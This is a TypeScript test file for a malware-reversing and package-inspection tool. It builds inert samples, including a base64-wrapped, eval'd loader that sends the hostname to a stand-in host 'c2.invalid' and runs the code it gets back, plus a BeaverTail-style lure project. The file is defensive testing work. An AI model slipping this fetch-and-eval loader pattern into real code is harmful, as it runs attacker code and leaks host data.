/** `counterlure reverse`, end to end, on inert samples that are made here. */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Inspection, Reversal, SampleConfig, TraceEvent } from '../../src/model/index.ts';
import { standIns } from '../reverse/standins/index.ts';
import { runCli } from './run-cli.ts';

// Inert: it runs in the decoy world only, and its host does not exist.
const GUARD = "if (process.env.COUNTERLURE_DECOY !== '1') throw new Error('inert: runs only in the decoy world');\n";
const INNER =
  "const os = require('os'); require('http').get('http://c2.invalid:1224/keys?host=' + os.hostname(), (r) => { let s = ''; r.on('data', (d) => { s += d; }); r.on('end', () => eval(s)); });";
const SAMPLE = `${GUARD}eval(Buffer.from('${Buffer.from(INNER).toString('base64')}', 'base64').toString());\n`;

let folder: string;
let sample: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'counterlure-reverse-'));
  sample = join(folder, 'sample.js');
  writeFileSync(sample, SAMPLE);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('reverse', () => {
  it('shows the layers, the request and what it runs, and says the same with one process or two', async () => {
    const args = ['reverse', sample, '--format', 'json', '--fail-on', 'never'];
    const one = await runCli([...args, '--jobs', '1']);
    const two = await runCli([...args, '--jobs', '2']);
    expect([one.code, one.stderr]).toEqual([0, '']);
    expect(one.stdout).toBe(two.stdout);
    const reversal = Reversal.parse(JSON.parse(one.stdout));
    expect(reversal.layers.map(({ text }) => text)).toContain(INNER);
    expect(reversal.trace.some(({ data }) => (data['url'] ?? '').startsWith('http://c2.invalid:1224/keys?host='))).toBe(
      true,
    );
    expect(reversal.indicators.map(({ value }) => value)).toContain('c2.invalid:1224');
    expect(reversal.config.endpoints.map(({ host, port }) => `${host}:${port}`)).toContain('c2.invalid:1224');
  }, 120_000);

  it('writes every layer, the source, the configuration and the trace to a new folder', async () => {
    const out = join(folder, 'out');
    const { code, stdout } = await runCli(['reverse', sample, '--out', out, '--fail-on', 'never']);
    expect(code).toBe(0);
    expect(stdout).toContain('c2');
    expect(readdirSync(out).sort()).toEqual(['config.json', 'layers', 'reversal.json', 'source.js.txt', 'trace.jsonl']);
    expect(readFileSync(join(out, 'layers', 'L0.js.txt'), 'utf8')).toBe(SAMPLE);
    SampleConfig.parse(JSON.parse(readFileSync(join(out, 'config.json'), 'utf8')));
    const events = readFileSync(join(out, 'trace.jsonl'), 'utf8').trim().split('\n');
    expect(events.length).toBeGreaterThan(1);
    for (const line of events) TraceEvent.parse(JSON.parse(line));
    const again = await runCli(['reverse', sample, '--out', out]);
    expect([again.code, again.stderr]).toEqual([2, expect.stringContaining('CL_OUTPUT_UNWRITABLE')]);
  }, 120_000);

  it('reads without running where that is asked for', async () => {
    const { code, stdout } = await runCli([
      'reverse',
      sample,
      '--no-emulate',
      '--format',
      'json',
      '--fail-on',
      'never',
    ]);
    const reversal = Reversal.parse(JSON.parse(stdout));
    expect(code).toBe(0);
    expect([reversal.coverage.emulated, reversal.runs, reversal.trace]).toEqual([false, [], []]);
    expect(reversal.layers.map(({ text }) => text)).toContain(INNER);
  }, 120_000);

  it('starts where it is told to in a folder, with the other files there to read', async () => {
    const project = join(folder, 'project');
    mkdirSync(join(project, 'lib'), { recursive: true });
    writeFileSync(
      join(project, 'lib', 'address.js'),
      "module.exports = 'http://c2.invalid:1224/' + 'from-' + 'helper';\n",
    );
    writeFileSync(join(project, 'main.js'), `${GUARD}require('http').get(require('./lib/address'));\n`);
    const without = await runCli(['reverse', project]);
    expect([without.code, without.stderr]).toEqual([2, expect.stringMatching(/CL_USAGE.*--entry.*main\.js/)]);
    const missing = await runCli(['reverse', project, '--entry', 'nowhere.js']);
    expect([missing.code, missing.stderr]).toEqual([2, expect.stringContaining('CL_TARGET_NOT_FOUND')]);
    const { stdout } = await runCli([
      'reverse',
      project,
      '--entry',
      'main.js',
      '--format',
      'json',
      '--fail-on',
      'never',
    ]);
    expect(stdout).toContain('http://c2.invalid:1224/from-helper');
  }, 120_000);

  it('says how alike two samples are', async () => {
    const renamed = join(folder, 'renamed.js');
    writeFileSync(renamed, SAMPLE.replaceAll('process', 'globalThis.process'));
    const { code, stdout } = await runCli(['reverse', '--compare', sample, renamed, '--format', 'json']);
    const { score, same } = JSON.parse(stdout) as { score: number; same: boolean };
    expect([code, same]).toEqual([0, false]);
    expect(score).toBeGreaterThan(50);
    expect((await runCli(['reverse', '--compare', sample, sample])).stdout).toContain(
      '100 of 100 alike (the same bytes)',
    );
  }, 120_000);

  it('ends in one line where nothing can be done', async () => {
    const empty = join(folder, 'empty.js');
    writeFileSync(empty, '');
    for (const [args, code] of [
      [['reverse'], 'CL_USAGE'],
      [['reverse', join(folder, 'missing.js')], 'CL_TARGET_NOT_FOUND'],
      [['reverse', empty], 'CL_TARGET_UNSUPPORTED'],
      [['reverse', sample, '--persona', 'amiga'], 'CL_USAGE'],
      [['reverse', sample, '--output', join(folder, 'no', 'such', 'place')], 'CL_OUTPUT_UNWRITABLE'],
    ] as const) {
      const { code: exit, stderr } = await runCli(args);
      expect([exit, stderr.trim().split('\n').length, stderr]).toEqual([2, 1, expect.stringContaining(code)]);
    }
    expect(existsSync(join(folder, 'no'))).toBe(false);
  }, 60_000);
});

describe('inspect', () => {
  it('takes hidden files apart and takes what comes out into its own result; not with --no-reverse', async () => {
    const lure = join(folder, 'lure');
    for (const { path, content } of standIns().find(({ id }) => id === 'beavertail')?.delivery ?? []) {
      mkdirSync(join(lure, path, '..'), { recursive: true });
      writeFileSync(join(lure, path), content);
    }
    writeFileSync(
      join(lure, 'package.json'),
      '{"name":"shop","scripts":{"dev":"next dev"},"devDependencies":{"tailwindcss":"3.4.0"}}\n',
    );
    const { code, stdout } = await runCli(['inspect', lure, '--format', 'json']);
    const inspection = Inspection.parse(JSON.parse(stdout));
    expect([code, inspection.verdict.level]).toEqual([1, 'malicious']);
    const found = inspection.findings.find(({ rule }) => rule === 'reversed-sample');
    expect(found?.message).toContain('BeaverTail');
    expect(found?.path).not.toBeNull();
    expect(inspection.samples.map(({ families }) => families)).toEqual([['BeaverTail']]);
    expect(inspection.indicators.map(({ value }) => value)).toContain('http://198.51.100.41:1224/keys');
    const without = Inspection.parse(
      JSON.parse((await runCli(['inspect', lure, '--format', 'json', '--no-reverse'])).stdout),
    );
    expect(without.findings.map(({ rule }) => rule)).not.toContain('reversed-sample');
    expect(without.samples.map(({ families }) => families)).toEqual([[]]);
  }, 180_000);
});
